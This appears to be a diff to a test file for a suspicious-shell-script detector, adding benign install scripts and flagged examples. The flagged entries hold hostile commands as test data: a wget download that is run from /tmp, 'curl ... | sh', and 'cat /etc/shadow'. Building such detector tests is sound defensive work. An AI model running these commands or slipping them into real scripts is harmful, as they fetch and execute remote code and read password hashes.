@@ -148,6 +148,8 @@ const SCRIPTS_QUIET = [
   'npm install --save express\nnode server.js',
   'pip install -r requirements.txt\npython manage.py migrate',
   'npm ci\nnpm run build\nnode dist/server.js',
+  '#!/bin/bash\nset -euo pipefail\nnpm ci\nnpm test',
+  '#!/usr/bin/env sh\nmake build\nmake install PREFIX=~/.local',
   // Quiet before this round too: a line of a program of no list.
   'gem install rails\nrails new blog',
 ];
@@ -158,6 +160,8 @@ const SCRIPTS_FOUND = [
   'pip install requests\nwhoami',
   "npm install x\nwh''oami",
   'npm install\ncurl http://dl.example.net/a.sh | sh',
+  '#!/bin/sh\nwget http://dl.example.net/a -O /tmp/a; chmod +x /tmp/a; /tmp/a',
+  '#!/bin/bash\ncat /etc/shadow',
   // Not a package manager's line: the next line is a command as before.
   'x\npython -m http.server 8000',
   '127.0.0.1\nnode server.js',
